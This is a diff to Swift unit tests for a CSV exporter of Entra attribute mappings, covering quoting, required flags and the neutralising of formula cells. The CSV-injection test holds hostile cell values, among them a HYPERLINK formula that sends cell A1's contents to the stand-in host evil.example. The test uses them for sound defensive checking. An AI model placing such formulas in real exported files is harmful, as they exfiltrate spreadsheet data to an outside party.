@@ -77,18 +77,19 @@ final class EntraMappingCSVTests: XCTestCase {
             let rows = try XCTUnwrap(read["\(vendor.id)/mappings/attribute-mappings.csv"])
             XCTAssertEqual(rows.first, EntraMappingCSV.header)
             let json = try EntraTestSupport.parse(try XCTUnwrap(EntraMappingOutput.files(for: vendor)["\(vendor.id)/mappings/entra-mappings.json"]))
-            XCTAssertEqual(rows.dropFirst().map { Expected(csv: $0) }, Expected.rows(json: json, vendor: vendor), vendor.id)
+            XCTAssertEqual(rows.dropFirst().map { Expected(csv: $0) }, Expected.rows(json: json, vendor: vendor.descriptor), vendor.id)
         }
     }
 
     func testQuotingRoundTripsThroughPython() throws {
-        let vendor = VendorDescriptor(
+        let vendor = try VendorDescriptor(
             id: "quotes", file: "vendor.json", name: "Quotes",
+            credentials: Credentials(steps: [CredentialStep(text: "Copy the token.")]),
             users: AttributeTable(attributes: [
                 AttributeMapping(path: "userName", type: .string, filterable: true, matching: 1),
                 AttributeMapping(path: "title", type: .string, source: .constant("a, \"b\"\r\nc ü")),
-                AttributeMapping(path: "nickName", type: .string, source: .expression("Join(\",\", [givenName], [surname])"), fieldRef: "x\ny"),
-            ]))
+                AttributeMapping(path: "nickName", type: .string, source: .expression("Join(\",\", [givenName], [surname])"), fieldRef: "x, \"y\""),
+            ])).checked()
         let name = "quotes/mappings/attribute-mappings.csv"
         let bytes = try XCTUnwrap(EntraMappingOutput.files(for: vendor)[name])
         XCTAssertEqual(
@@ -96,10 +97,10 @@ final class EntraMappingCSVTests: XCTestCase {
             EntraMappingCSV.header.joined(separator: ",") + "\r\n"
                 + "User,userName,Direct,userPrincipalName,entra,,1,Always,FlowWhenChanged,String,,true,,mapped\r\n"
                 + "User,title,Constant,\"a, \"\"b\"\"\r\nc ü\",vendor,,,Always,FlowWhenChanged,String,,false,,mapped\r\n"
-                + "User,nickName,Expression,\"Join(\"\",\"\", [givenName], [surname])\",vendor,,,Always,FlowWhenChanged,String,,false,\"x\ny\",mapped\r\n")
+                + "User,nickName,Expression,\"Join(\"\",\"\", [givenName], [surname])\",vendor,,,Always,FlowWhenChanged,String,,false,\"x, \"\"y\"\"\",mapped\r\n")
         let rows = try XCTUnwrap(try readBack([name: bytes])[name])
         XCTAssertEqual(rows.map { $0[3] }, ["source", "userPrincipalName", "a, \"b\"\r\nc ü", "Join(\",\", [givenName], [surname])"])
-        XCTAssertEqual(rows.last?[12], "x\ny")
+        XCTAssertEqual(rows.last?[12], "x, \"y\"")
     }
 
     /// OWASP's "CSV Injection": no cell begins with '=', '+', '-', '@', tab, CR or LF; such a cell
@@ -107,17 +108,21 @@ final class EntraMappingCSVTests: XCTestCase {
     func testFormulaCellsAreNeutralized() throws {
         let hostile = ["=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1", "\n=1"]
         var rows: [AttributeMapping] = [AttributeMapping(path: "userName", type: .string, filterable: true, matching: 1)]
-        let targets = ["title", "nickName", "displayName", "locale", "timezone", "profileUrl", "userType"]
+        let targets = ["title", "nickName", "displayName", "locale", "timezone", "preferredLanguage", "userType"]
         for (target, value) in zip(targets, hostile) {
-            rows.append(AttributeMapping(path: target, type: .string, source: .constant(value), fieldRef: value, defaultValue: value))
+            // A field ref is one line; the others hold any text.
+            let fieldRef = value.contains(where: \.isNewline) ? nil : value
+            rows.append(AttributeMapping(path: target, type: .string, source: .constant(value), fieldRef: fieldRef, defaultValue: value))
         }
-        let vendor = VendorDescriptor(id: "formulas", file: "vendor.json", name: "Formulas", users: AttributeTable(attributes: rows))
+        let vendor = VendorDescriptor(
+            id: "formulas", file: "vendor.json", name: "Formulas",
+            credentials: Credentials(steps: [CredentialStep(text: "Copy the token.")]), users: AttributeTable(attributes: rows))
         let name = "formulas/mappings/attribute-mappings.csv"
-        let bytes = try XCTUnwrap(EntraMappingOutput.files(for: vendor)[name])
+        let bytes = try XCTUnwrap(EntraMappingOutput.files(for: try vendor.checked())[name])
         let read = try XCTUnwrap(try readBack([name: bytes])[name])
         for (index, value) in hostile.enumerated() {
             let row = read[index + 2]
-            for column in [3, 5, 12] {
+            for column in value.contains(where: \.isNewline) ? [3, 5] : [3, 5, 12] {
                 XCTAssertEqual(row[column], "'" + value, "column \(EntraMappingCSV.header[column]) of '\(value)'")
                 // A program drops the "'" before a formula character and has the value.
                 XCTAssertEqual(String(row[column].dropFirst()), value)
@@ -137,18 +142,19 @@ final class EntraMappingCSVTests: XCTestCase {
     func testRequiredReachesTheCSVAndTheDefinitions() throws {
         let vendor = VendorDescriptor(
             id: "required", file: "vendor.json", name: "Required",
+            credentials: Credentials(steps: [CredentialStep(text: "Copy the token.")]),
             users: AttributeTable(attributes: [
                 AttributeMapping(path: "userName", type: .string, filterable: true, required: true, matching: 1),
                 AttributeMapping(path: "active", type: .boolean, required: false),
                 AttributeMapping(path: "name.givenName", type: .string, required: true),
                 AttributeMapping(path: "title", type: .string),
             ]))
-        let files = EntraMappingOutput.files(for: vendor)
+        let files = EntraMappingOutput.files(for: try vendor.checked())
         let csv = try XCTUnwrap(try readBack(["required/mappings/attribute-mappings.csv": try XCTUnwrap(files["required/mappings/attribute-mappings.csv"])]).values.first)
         XCTAssertEqual(csv.dropFirst().map { [$0[1], $0[10]] }, [["userName", "true"], ["active", "false"], ["name.givenName", "true"], ["title", ""]])
         let json = try EntraTestSupport.parse(try XCTUnwrap(files["required/mappings/entra-mappings.json"]))
         let definitions = json["directories"]?.array?.first?["objects"]?.array?.first?["attributes"]?.array ?? []
-        XCTAssertEqual(definitions.map { $0["required"] }, [.bool(true), .bool(false), .bool(true), nil])
+        XCTAssertEqual(definitions.map { $0["required"] }, [JSONValue.bool(true), .bool(false), .bool(true), nil] as [JSONValue?])
     }
 
     func testBrokenCSVIsRejectedByTheChecker() throws {
